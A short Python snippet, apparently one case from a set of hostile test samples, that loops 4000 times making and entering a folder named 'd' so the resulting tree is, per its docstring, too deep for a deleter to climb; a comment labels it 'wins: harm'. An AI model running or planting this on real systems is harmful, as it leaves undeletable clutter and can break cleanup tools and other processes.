"""Makes a tree of folders that is deeper than whoever deletes it can climb."""
# wins: harm
# %% first
import os

for _ in range(4000):
    attempt(os.mkdir, "d")
    attempt(os.chdir, "d")
